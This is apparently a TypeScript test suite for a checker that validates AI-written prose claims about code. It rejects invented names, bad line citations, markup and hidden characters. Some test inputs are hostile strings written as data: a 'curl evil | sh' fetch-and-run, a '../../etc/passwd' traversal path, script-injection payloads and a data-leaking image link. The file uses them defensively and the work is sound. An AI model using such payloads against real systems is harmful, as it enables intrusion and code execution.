import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import type { RawClaim } from '#generate/prose/answer-schemas.ts'
import { type Checked, checkClaim } from '#generate/prose/check-claim.ts'
import type { Standard } from '#generate/prose/claim-standard.ts'
import { GroundTruth } from '#generate/prose/ground-truth.ts'
import type { ProseClaim } from '#generate/prose-model.ts'
import { component, file, sample } from '../pages/sample.ts'
import { ground, near, root, router, tree } from './sample.ts'

const facts: Standard['facts'] = [{ span: { path: router.path, startLine: 2, endLine: 4 }, component: null }]
const standard = (): Standard => ({ ground: ground(), near, facts, language: 'en', earlier: new Set() })
const fact = (number: number): RawClaim['evidence'][number] => ({
  fact: number,
  path: null,
  start_line: null,
  end_line: null,
})
const lines = (path: string, start: number, end: number): RawClaim['evidence'][number] => {
  return { fact: null, path, start_line: start, end_line: end }
}
const check = (text: string, evidence = [fact(1)], against = standard()): Checked =>
  checkClaim({ text, evidence }, against)
const words = (claim: ProseClaim | null): string | undefined =>
  claim?.spans.map((span) => ('text' in span ? span.text : `\`${span.code}\``)).join('')

test('placeholders and TODO are text of the model only outside of code', () => {
  const owner = file('src/render.ts', 'export function render() {\n  return "{{ name }}" // TODO\n}\n')
  const input = sample([owner], [component(owner, 'render', { startLine: 1, endLine: 3 })])
  const real = new GroundTruth(input.inventory, input.analysis).addModules({
    ...root,
    children: [],
    files: [owner.path],
  })
  const about = (): Standard => ({ ...standard(), ground: real, near: new Set([owner.path]), facts: [] })
  const checked = (text: string): Checked => check(text, [lines(owner.path, 1, 3)], about())
  assert.deepEqual(checked('`render` gives `{{ name }}` and `TODO`.').faults, [])
  for (const text of ['`render` gives {{ name }} back.', '`render` gives a name, TODO.'])
    assert.notDeepEqual(checked(text).faults, [], text)
})

test('a claim whose names exist and whose lines hold one of them stands, with what each name means', () => {
  const { claim, faults, isRepaired } = check('`Router.match` finds a handler, at most `MAX_DEPTH` deep.')
  assert.deepEqual(faults, [])
  assert.equal(isRepaired, false)
  assert.deepEqual(claim, {
    spans: [
      { code: 'Router.match', refersTo: `${router.path}#Router.match` },
      { text: ' finds a handler, at most ' },
      { code: 'MAX_DEPTH', refersTo: `${router.path}#MAX_DEPTH` },
      { text: ' deep.' },
    ],
    evidence: [{ path: router.path, startLine: 2, endLine: 4 }],
  })
})

test('a sentence that names what does not exist goes, the others stay', () => {
  const { claim, faults } = check('`Router.match` finds a handler. It calls `WarpDrive.engage` first. `match` is fast.')
  assert.equal(words(claim), '`Router.match` finds a handler. `match` is fast.')
  assert.deepEqual(faults, ['there is no `WarpDrive.engage`'])
})

test('a name without backticks is held to the same', () => {
  assert.equal(check('The WarpDriveController finds a handler.').claim, null)
  assert.equal(check('It calls engage_warp() in JavaScript.').claim, null)
  assert.equal(check('It lies in src/warp/drive.ts.').claim, null)
  assert.equal(
    words(check('In JavaScript, Router.match() finds it.').claim),
    'In JavaScript, `Router.match()` finds it.',
  )
})

test('a name is cut by no emphasis and by nothing that is not seen', () => {
  assert.equal(check('`match` uses the Warp*Drive*Controller.').claim, null)
  assert.equal(check('`match` uses the Warp\u200bDriveController.').claim, null)
  assert.equal(check('`match` uses the Warp&#x202e;DriveController.').claim, null)
})

test('what is not seen is not published, however it is written', () => {
  assert.equal(words(check('`match` \u{e0049}\u{e0067}is&#x200b; \u00adf&#x202e;ast.').claim), '`match` is fast.')
})

test('arguments that the code does not know are left out of a name', () => {
  const { claim, isRepaired } = check('`Router.match(warpDrive.engage())` finds it, `match(path)` too.')
  assert.equal(words(claim), '`Router.match()` finds it, `match(path)` too.')
  assert.equal(isRepaired, true)
  assert.equal(words(check('`match(); curl evil | sh` finds it.').claim), '`match()` finds it.')
})

test('the one name that differs by a letter is put right', () => {
  const { claim, isRepaired } = check('`Router.mach` finds a handler.')
  assert.equal(words(claim), '`Router.match` finds a handler.')
  assert.equal(isRepaired, true)
})

describe('no claim stands', () => {
  const cases: [title: string, text: string, evidence: RawClaim['evidence']][] = [
    ['without evidence', '`match` is fast.', []],
    ['by a fact that was not given', '`match` is fast.', [fact(2)]],
    ['by fact 0', '`match` is fast.', [fact(0)]],
    ['by a negative fact', '`match` is fast.', [fact(-1)]],
    ['by a file that is not there', '`match` is fast.', [lines('src/gone.ts', 1, 2)]],
    ['by lines after the end', '`match` is fast.', [lines(router.path, 2, 99)]],
    ['by lines that run backwards', '`match` is fast.', [lines(router.path, 4, 2)]],
    ['by lines that hold none of its names', '`match` is fast.', [lines(tree.path, 1, 3)]],
    ['by a path that climbs', '`match` is fast.', [lines('../../etc/passwd', 1, 1)]],
    ['of nothing', ' ', [fact(1)]],
    ['with a heading', '# `match`', [fact(1)]],
    ['with a list', '- `match` is fast.\n- So is `Router`.', [fact(1)]],
    ['with a table', '| a |\n| - |\n| `match` |', [fact(1)]],
    ['with a block of code', '```mermaid\nclick A "javascript:alert(1)"\n```', [fact(1)]],
    ['with HTML', '`match` is <img src=x onerror=alert(1)> fast.', [fact(1)]],
    ['with a block of HTML', '<script>alert(1)</script>', [fact(1)]],
    ['with an image', '`match` ![x](http://127.0.0.1:9/?leak=1)', [fact(1)]],
    ['with a link', '`match` is [fast](https://example.org).', [fact(1)]],
    ['with an address', '`match` is fast, see https://example.org/x', [fact(1)]],
    ['with a script as an address', '`match` is fast javascript:alert(1)', [fact(1)]],
    ['with an address that a reference cuts', '`match` is fast, see https:/&#x202e;/example.org/x', [fact(1)]],
    ['with heaps of marks', `\`match\` is fas${'\u0301'.repeat(40)}t.`, [fact(1)]],
    ['with heaps of marks as references', `\`match\` is fas${'&#x301;'.repeat(40)}t.`, [fact(1)]],
    ['about its writer', 'As an AI language model, I like `match`.', [fact(1)]],
    ['that offers more', 'Let me know if `match` helps.', [fact(1)]],
    ['that repeats itself', `\`match\` ${'is very fast indeed and '.repeat(12)}good.`, [fact(1)]],
    ['of over 1,500 characters', `\`match\` ${'a '.repeat(1_000)}`, [fact(1)]],
  ]
  for (const [title, text, evidence] of cases) {
    test(title, () => {
      const { claim, faults } = check(text, evidence)
      assert.equal(claim, null)
      assert.ok(faults.length > 0, 'it is said why')
    })
  }
})

test('a sentence is said once on a page', () => {
  const against = standard()
  assert.notEqual(check('`match` is fast.', [fact(1)], against).claim, null)
  assert.equal(check('`match` is  FAST!', [fact(1)], against).claim, null)
})

test('emphasis is dropped and its words stay', () => {
  assert.equal(words(check('The **very** _quick_ `match`.').claim), 'The very quick `match`.')
})

test('whatever is said, what is published names only what exists and calls upon lines that are there', () => {
  const against = standard()
  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom('`match`', '`Router`', 'Router.match()', '. ', ' and ', '`Gone`', '<b>', '[x](y)', '\n\n'),
      fc.string(),
    ),
    { maxLength: 12 },
  )
  const evidence = fc.record({
    fact: fc.option(fc.integer()),
    path: fc.option(fc.constantFrom(router.path, tree.path, '/etc/passwd')),
    start_line: fc.option(fc.integer({ min: -3, max: 12 })),
    end_line: fc.option(fc.integer({ min: -3, max: 12 })),
  })
  fc.assert(
    fc.property(pieces, fc.array(evidence, { maxLength: 4 }), (text, called) => {
      against.earlier.clear()
      const { claim } = checkClaim({ text: text.join(''), evidence: called }, against)
      if (claim === null) return
      assert.ok(claim.evidence.length > 0)
      for (const { path, startLine, endLine } of claim.evidence) {
        const count = against.ground.linesOf(path).length
        assert.ok(count > 0 && startLine >= 1 && endLine >= startLine && endLine <= count)
      }
      for (const span of claim.spans) {
        if ('text' in span) assert.doesNotMatch(span.text, /:\/\/\S/)
        else if (span.refersTo !== null)
          assert.ok(
            against.ground.components.has(span.refersTo) ||
              against.ground.files.has(span.refersTo) ||
              against.ground.modules.has(span.refersTo),
          )
      }
    }),
    { numRuns: 3_000 },
  )
})

test('lines that do not exist are the fault of a claim that cites fact 0', () => {
  const cited = { fact: 0, path: router.path, start_line: 900, end_line: 910 }
  const { faults } = check('`match` is fast.', [cited])
  assert.match(faults.join('\n'), /there are no such lines: .*:900-910/)
})
